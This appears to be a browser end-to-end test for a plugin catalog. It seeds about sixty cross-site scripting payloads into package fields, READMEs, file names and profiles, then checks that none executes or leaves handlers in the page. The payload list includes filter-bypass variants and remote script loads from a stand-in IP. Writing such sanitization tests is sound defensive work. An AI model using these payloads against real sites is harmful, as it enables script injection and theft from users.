/*
 * Sixty strings that want to run, in everything a package and its people can say: name, description,
 * capabilities, tools, settings, README, file names, texts, logo, tag, organization, person. None of
 * them runs, none makes an element or a handler of its own, and the policy has nothing to report.
 */
import { test } from "./lib/harness.mjs";
import { assert, same } from "./lib/bench.mjs";
import { packageOf } from "./lib/packages.mjs";
import { shown, withSettings } from "./lib/plugin_page.mjs";

/* T stands for the call that must never happen. */
const STRINGS = `
<script>T</script>|<SCRIPT SRC=//198.51.100.7/x.js></SCRIPT>|<scr<script>ipt>T</scr</script>ipt>|<script type=module>T</script>|<img src=x onerror=T>
<img src="x" onerror="T">|<img/src=x/onerror=T>|<img src=x onerror=T//|<image src=x onerror=T>|<svg onload=T>
<svg/onload=T>|<svg><script>T</script></svg>|<svg><animate onbegin=T attributeName=x dur=1s>|<svg><use href="data:image/svg+xml,<svg id=x onload=T>#x"/></svg>|<math><mi xlink:href="javascript:T">x</mi></math>
<body onload=T>|<iframe src="javascript:T"></iframe>|<iframe srcdoc="<script>parent.T</script>"></iframe>|<object data="javascript:T"></object>|<embed src="javascript:T">
<a href="javascript:T">x</a>|<a href="JaVaScRiPt:T">x</a>|<a href="java&#10;script:T">x</a>|<a href="&#x6a;avascript:T">x</a>|<a href="data:text/html,<script>T</script>">x</a>
[x](javascript:T)|[x](JAVASCRIPT:T)|[x](data:text/html;base64,PHNjcmlwdD5UPC9zY3JpcHQ+)|[x](vbscript:T)|![x](javascript:T)
![x](x"onerror="T)|[x]: javascript:T|<javascript:T>|<style>@import "//198.51.100.7/x.css";</style>|<link rel=stylesheet href="//198.51.100.7/x.css">
<meta http-equiv=refresh content="0;url=javascript:T">|<base href="//198.51.100.7/">|<form action="javascript:T"><button>x</button></form>|<input autofocus onfocus=T>|<select autofocus onfocus=T>
<textarea autofocus onfocus=T>|<details open ontoggle=T>|<video src=x onerror=T>|<audio src=x onerror=T>|<video><source onerror=T></video>
<marquee onstart=T>|<p style="background:url(javascript:T)">x</p>|<div style="width:expression(T)">x</div>|<p onmouseover=T onclick=T>x</p>|<template><script>T</script></template>
"><script>T</script>|'><img src=x onerror=T>|</title><script>T</script>|</textarea><script>T</script>|--><script>T</script>
]]><script>T</script>|\${T}|{{constructor.constructor('T')()}}|<noscript><p title="</noscript><img src=x onerror=T>">|<xss id=app name=app tabindex=1 onfocus=T>x</xss>`
  .trim()
  .split(/[|\n]/)
  .map((text, n) => text.replace(/\bT\b/g, `trap(${n})`));

const bytes = (text) => new TextEncoder().encode(text);

/* A name of a file holds no slash, no control character and nothing that Windows would refuse. */
const fileNames = (list) => list.map((text, n) => `${n} ${text.replace(/[/\\:*?"<>|\n]/g, "'").slice(0, 80)}.txt`);

function packageFrom(list, pid, version) {
  const fields = list.slice(0, 8).map((text, n) => ({ key: `key_${n}`, name: text, type: "str", description: text, default: text, required: true, sensitive: false }));
  const what = { pid, version, name: list[0], description: list.join(" "), capabilities: list.map((text) => `${text}: ${text}`) };
  const source = withSettings(what, fields).replace("Search for something.", () => list.join(" ").replace(/\\/g, "").replace(/"/g, "'"));
  return packageOf({}, {
    "plugin.py": source,
    "README.md": `${list.join("\n\n")}\n\n\`\`\`html\n${list.join("\n")}\n\`\`\`\n`,
    "evil.html": `<!doctype html><body>${list.join("\n")}`,
    "evil.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="trap(99)"><script>trap(99)</script></svg>`,
    "logo.png": bytes(`<svg xmlns="http://www.w3.org/2000/svg" onload="trap(98)"/>`),
    "data.json": JSON.stringify(list),
    ...Object.fromEntries(fileNames(list).map((name) => [`${version}/${name}`, list.join("\n")])),
  });
}

/* Called by whatever runs; the usual ways to be noticed are traps too. */
function setTraps() {
  globalThis.trapped = [];
  globalThis.trap = (n) => globalThis.trapped.push(n);
  for (const name of ["alert", "confirm", "prompt", "print", "open"]) globalThis[name] = () => globalThis.trap(name);
}

/* What no text of others may become, anywhere on the page. */
function oddities() {
  const own = (one) => one.closest("#app, #layers, #toasts");
  const found = [...document.querySelectorAll("*")].filter((one) => own(one)).filter((one) =>
    /^(script|style|iframe|object|embed|base|meta|link|form|video|audio|marquee|math|template|xss)$/i.test(one.tagName) && one.className !== "form" ||
    [...one.attributes].some((a) => /^on|^srcdoc$/i.test(a.name) || (/^(href|src|action|data|xlink:href)$/i.test(a.name) && /^\s*(javascript|vbscript|data:text)/i.test(a.value))));
  return found.map((one) => one.outerHTML.slice(0, 200));
}

async function judge(bench, page, where) {
  await page.waitForFunction(() => !document.querySelector(".bone, .plugin-bone"));
  const seen = await page.evaluate(() => ({ trapped: globalThis.trapped, breaches: globalThis.breaches }));
  same(seen, { trapped: [], breaches: [] }, `${where}:`);
  same(await page.evaluate(oddities), [], `${where}:`);
}

test("sixty strings of strangers run nowhere", async (bench) => {
  same(STRINGS.length, 60);
  const org = await bench.server.api("POST", "/api/admin/orgs", { json: { name: "Strangers", domain: "strangers.example" } });
  await bench.server.api("PATCH", `/api/orgs/${org.org_id}/profile`, { json: { display_name: STRINGS[5], description: STRINGS[0] } });
  const person = await bench.server.user("stranger", { org, isAdmin: true, is_sys_admin: true, display_name: STRINGS[4] });
  const rows = [];
  for (let n = 0; n < 4; n++) {
    const list = STRINGS.slice(15 * n, 15 * n + 15);
    const row = await bench.server.upload(org.org_id, await packageFrom(list, `example.strangers.p${n}`, "1.0.0"));
    await bench.server.api("PATCH", `/api/orgs/${org.org_id}/plugins/${row.id}`, { json: { tag: list[1].slice(0, 100) } });
    rows.push(row);
  }
  await bench.server.upload(org.org_id, await packageFrom(STRINGS.slice(30, 45).reverse(), "example.strangers.p2", "2.0.0"));

  const page = await bench.open({ at: "/docs" });
  await page.context().addInitScript(setTraps);
  page.on("dialog", () => bench.note("a dialog was opened"));
  page.on("popup", () => bench.note("a window was opened"));
  await bench.signIn(page, person, `/#/o/${org.org_id}/catalog`);
  await page.getByText("4 plugins", { exact: true }).waitFor();
  await judge(bench, page, "catalog");
  for (const [n, row] of rows.entries())
    for (const tab of ["readme", "versions", "settings", "tools", "files&file=evil.html", "files&file=data.json", "checks", "trust", ...(n === 2 ? ["diff"] : [])]) {
      await page.goto(`/#/o/${org.org_id}/plugins/${row.pid}?tab=${tab}`);
      await shown(page, row.pid, tab.split("&")[0]);
      await judge(bench, page, `${row.pid} ${tab}`);
      if (tab === "readme") await page.locator(".readme > *").first().waitFor({ state: "attached" });
      if (tab === "readme") await judge(bench, page, `${row.pid} README`);
    }
  await bench.shot(page, "strangers");
  /* What would be noticed: a call, a handler, a breach, which the console tells too. */
  bench.judge();
  bench.expect(/^console: Executing inline event handler/);
  await page.evaluate(() => (document.querySelector("main").append(Object.assign(document.createElement("p"), { id: "odd" })), document.getElementById("odd").setAttribute("onclick", "0"), globalThis.trap(0)));
  await page.waitForFunction(() => globalThis.trapped.length === 1 && globalThis.breaches.length === 1);
  same((await page.evaluate(oddities)).length, 1);
  for (const link of await page.locator("main a").all()) assert(!/^\s*(javascript|data|vbscript)/i.test((await link.getAttribute("href")) ?? ""), "a link runs");
  for (const name of ["evil.html", "evil.svg"]) {
    await page.goto(`/api/orgs/${org.org_id}/plugins/${rows[0].id}/files/${name}`);
    same(await page.evaluate(() => [document.contentType, globalThis.trapped]), ["text/plain", []], `${name} by itself:`);
  }
});
